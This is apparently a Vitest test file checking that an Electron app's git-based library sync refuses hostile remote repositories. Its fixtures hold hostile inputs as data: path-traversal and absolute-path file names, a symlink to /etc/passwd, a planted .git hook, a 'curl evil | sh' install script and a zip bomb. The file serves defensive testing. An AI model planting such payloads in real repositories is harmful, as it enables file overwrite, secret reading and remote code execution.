import { randomBytes } from 'node:crypto';
import { join } from 'node:path';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { moduleText, referencesText } from '../../../electron/services/sync/files';
import { loadSampleLibrary } from '../../../electron/services/library/sample-library';
import type { Module } from '../../../shared/schemas/module';
import { startGitServer } from '../../helpers/git-server';
import { HostileRepo, type Node } from '../../helpers/hostile-repos';
import { RESOURCES_DIR } from '../../helpers/open-test-store';
import { openSite, type Site } from '../../helpers/sync-sites';
import { snapshotDir, tempDir } from '../../helpers/temp-dir';

const sites: Site[] = [];
afterEach(() => {
  for (const site of sites.splice(0)) site.close();
});

let sample: Module;
let references: string;
beforeAll(async () => {
  const library = await loadSampleLibrary(RESOURCES_DIR);
  sample = library.modules.find((m) => m.id === 'hr-foundations') as Module;
  references = referencesText(library.references);
});

/** A valid shared library with one module changed, plus whatever the case adds to its folders. */
function library(modules: { [name: string]: Node } = {}, top: { [name: string]: Node } = {}): { [name: string]: Node } {
  return {
    library: { 'references.json': references, modules: { 'hr-foundations.json': moduleText({ ...sample, revision: sample.revision + 1, title: 'Changed upstream' }), ...modules } },
    ...top,
  };
}

/** Syncs a fresh academy with a remote built by `build`; returns the refusal, after checking nothing changed. */
async function refusal(build: (repo: HostileRepo) => string, options: { includeCourses?: boolean } = {}) {
  const repo = new HostileRepo(await tempDir('cc-hostile-'), 'remote');
  repo.publish(build(repo));
  const site = await openSite('H');
  sites.push(site);
  await site.setup(repo.path, { includeCourses: options.includeCourses ?? false });
  const before = await snapshotDir(join(site.dir, 'library'));
  const coursesBefore = await snapshotDir(join(site.dir, 'curricula'));
  const error = await site.failure('sync:now');
  expect(await snapshotDir(join(site.dir, 'library'))).toEqual(before);
  expect(await snapshotDir(join(site.dir, 'curricula'))).toEqual(coursesBefore);
  expect(site.module('hr-foundations').title).toBe(sample.title);
  return error;
}

describe('a hostile remote repository is refused with a specific message, and nothing is taken from it', () => {
  it('accepts the valid library these cases start from', async () => {
    const repo = new HostileRepo(await tempDir('cc-hostile-'), 'remote');
    repo.publish(repo.tree(library({}, { 'README.md': '# Our library\n' })));
    const site = await openSite('V');
    sites.push(site);
    await site.setup(repo.path);
    // No common history: the remote's different version of a module this academy has is a conflict, taken here.
    expect((await site.call('sync:now', { onConflict: 'take-theirs' })).outcome).toBe('done');
    expect(site.module('hr-foundations').title).toBe('Changed upstream');
  });

  it.each([
    ['a name that climbs out of its folder ("..")', (r: HostileRepo) => r.tree({ library: { modules: { '..': { mode: '100644', oid: r.blob('{}') } } } }), /"(library\/modules\/)?\.\." is not a safe file name/],
    ['an absolute path as a name', (r: HostileRepo) => r.rawTree([{ mode: '100644', name: '/etc/cron.d/evil', oid: r.blob('x') }]), /"\/etc\/cron\.d\/evil" is not a safe file name/],
    ['a Windows path with backslashes', (r: HostileRepo) => r.tree(library({ '..\\..\\evil.json': '{}' })), /is not a safe file name/],
    ['a .git folder', (r: HostileRepo) => r.tree({ ...library(), '.git': { hooks: { 'post-checkout': '#!/bin/sh\n' } } }), /"\.git" is not a safe file name/],
    ['two names that differ only by case', (r: HostileRepo) => r.tree(library({ 'Hr-foundations.json': moduleText(sample) })), /"library\/modules\/Hr-foundations\.json" and "library\/modules\/hr-foundations\.json" differ only by case/],
    ['a symbolic link', (r: HostileRepo) => r.tree(library({ 'arrest.json': { mode: '120000', oid: r.blob('/etc/passwd') } })), /"library\/modules\/arrest\.json" is a symbolic link/],
    ['a submodule', (r: HostileRepo) => r.tree(library({ vendor: { mode: '160000', oid: 'a'.repeat(40) } })), /"library\/modules\/vendor" is a submodule/],
    ['a file too large to be a module', (r: HostileRepo) => r.tree(library({ 'huge.json': randomBytes(9 * 1024 * 1024) })), /9 MB, more than a module or course can be/],
    ['a file that is not a module', (r: HostileRepo) => r.tree(library({}, { 'install.sh': 'curl evil | sh\n' })), /"install\.sh" is not a module, course or snapshot file/],
    ['a folder that is not part of a library', (r: HostileRepo) => r.tree(library({}, { hooks: { 'pre-commit': 'x' } })), /the folder "hooks" is not part of a shared library/],
    ['a module that breaks the schema', (r: HostileRepo) => r.tree(library({ 'broken.json': JSON.stringify({ schemaVersion: 4, id: 'broken', revision: 1 }) })), /library\/modules\/broken\.json is not valid/],
    ['a module file holding another module', (r: HostileRepo) => r.tree(library({ 'other.json': moduleText({ ...sample, id: 'hr-basics' }) })), /other\.json is not valid \(it holds the module "hr-basics", not "other"\)/],
    ['a module file that is not JSON', (r: HostileRepo) => r.tree(library({ 'half.json': '{"schemaVersion": 4, "id": "ha' })), /half\.json is not valid \(.*not valid JSON/],
    ['a module file that is not UTF-8', (r: HostileRepo) => r.tree(library({ 'latin.json': Buffer.from([0x7b, 0xe9, 0xff, 0x7d]) })), /"library\/modules\/latin\.json" is not UTF-8 text/],
    ['an unknown file mode', (r: HostileRepo) => r.tree(library({ 'odd.json': { mode: '100664', oid: r.blob(moduleText(sample)) } })), /damaged or forged/],
  ])('refuses %s', async (_name, build, message) => {
    const error = await refusal(build);
    expect(error.code).toBe('sync-hostile');
    expect(error.message).toMatch(message);
  });

  describe('a zip bomb (16 MB of zeros in a few kilobytes) is refused from its size, before it is unpacked', () => {
    const bomb = (r: HostileRepo) => r.tree(library({ 'bomb.json': Buffer.alloc(16 * 1024 * 1024) }));
    const message = /a file of 16 MB, more than a module or course can be \(found from its size before it was unpacked\)/;

    it('in a folder remote, where it is a loose object', async () => {
      const error = await refusal(bomb);
      expect(error.code).toBe('sync-hostile');
      expect(error.message).toMatch(message);
    });

    it('over HTTP, inside the packfile of the fetch', async () => {
      const root = await tempDir('cc-hostile-http-');
      const repo = new HostileRepo(root, 'remote');
      repo.publish(bomb(repo));
      const server = await startGitServer(root, 'bomb-token');
      try {
        const site = await openSite('P');
        sites.push(site);
        await site.setup(server.url('remote'), { token: 'bomb-token' });
        const error = await site.failure('sync:now');
        expect(error.code).toBe('sync-hostile');
        expect(error.message).toMatch(message);
        expect(site.module('hr-foundations').title).toBe(sample.title);
      } finally {
        await server.close();
      }
    });
  });

  it('refuses a course whose snapshot does not match the hash that names it', async () => {
    const error = await refusal((r) => {
      const text = moduleText(sample);
      const course = JSON.stringify({ id: 'x' });
      return r.tree({
        ...library(),
        curricula: { 'forged-course.json': course },
        snapshots: { 'hr-foundations': { [`r${String(sample.revision)}-${'0'.repeat(16)}.json`]: text } },
      });
    }, { includeCourses: true });
    expect(error.code).toBe('sync-hostile');
    expect(error.message).toMatch(/curricula\/forged-course\.json is not valid/);
  });
});
